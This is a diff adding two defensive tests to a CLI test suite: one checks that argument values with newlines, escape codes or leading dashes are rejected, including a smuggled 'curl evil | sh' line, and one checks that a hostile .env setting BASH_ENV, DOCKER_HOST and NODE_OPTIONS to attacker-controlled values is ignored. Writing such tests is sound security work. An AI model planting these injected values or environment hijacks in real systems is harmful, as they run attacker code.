@@ -33,6 +33,40 @@ describe('manager CLI', () => {
     expect(existsSync(join(out, 'bento-server'))).toBe(false);
   });
 
+  it('refuses command-line values with control characters or that look like options (exit 2, nothing written)', () => {
+    const { dir, manifest } = miniSpec();
+    const gen = join(dir, 'gen');
+    const bad = [
+      ['generate', manifest, '--output', gen, '--target-version', '1.0\nRUN curl evil | sh'],
+      ['build', manifest, '--all', '--dry-run', '--output', gen, '--staging-repository', '--insecure'],
+      ['build', manifest, '--all', '--dry-run', '--output', gen, '--builder', 'x\u001b[31m'],
+      ['--credentials-file', '-x', 'authenticate', manifest],
+    ];
+    for (const args of bad) {
+      const r = cli(args);
+      expect(r.code, args.join(' ')).toBe(2);
+      expect(r.stderr).toMatch(/(control characters \(a newline\?\) are not allowed|looks like an option; a value may not start with "-")/);
+      expect(r.stderr).not.toContain('\u001b');
+    }
+    expect(existsSync(gen)).toBe(false);
+  });
+
+  it('a hostile .env reaches no child process: BASH_ENV, DOCKER_HOST and NODE_OPTIONS in it are ignored', () => {
+    const { dir, manifest } = miniSpec();
+    writeFileSync(manifest, readFileSync(manifest, 'utf8').replace('  hub:\n    kind: dockerhub\n    namespace: acme\n    readme: true\n', '  hub:\n    kind: generic\n    host: 127.0.0.1:9\n    namespace: acme\n    credentials: { username_env: T_USER, password_env: T_PASS }\n'));
+    const marker = join(dir, 'bash-env-ran');
+    writeFileSync(join(dir, 'evil.sh'), `touch ${marker}\n`);
+    writeFileSync(join(dir, '.env'), `T_USER=me\nT_PASS=pw-123456\nBASH_ENV=${join(dir, 'evil.sh')}\nDOCKER_HOST=tcp://203.0.113.1:2375\nNODE_OPTIONS=--require=${join(dir, 'evil.js')}\n`, { mode: 0o600 });
+    writeFileSync(join(dir, 'evil.js'), `require('fs').writeFileSync(${JSON.stringify(marker)}, 'node')`);
+    const r = cli(['--spec-dir', dir, 'authenticate', manifest]);
+    expect(existsSync(marker)).toBe(false);
+    expect(r.stderr).toMatch(/warning: ignoring BASH_ENV, DOCKER_HOST, NODE_OPTIONS from .*\.env/);
+    // The login itself ran with the .env's credentials (and failed: nothing listens on port 9).
+    expect(r.code).toBe(1);
+    expect(r.stderr).toMatch(/login to 127\.0\.0\.1:9 failed/);
+    expect(r.stdout + r.stderr).not.toContain('pw-123456');
+  });
+
   it('exits 2 with file:line:column and writes nothing for a bad spec', () => {
     const { dir, manifest } = miniSpec();
     writeFileSync(manifest, readFileSync(manifest, 'utf8').replace('parent: base', 'parent: bsae'));
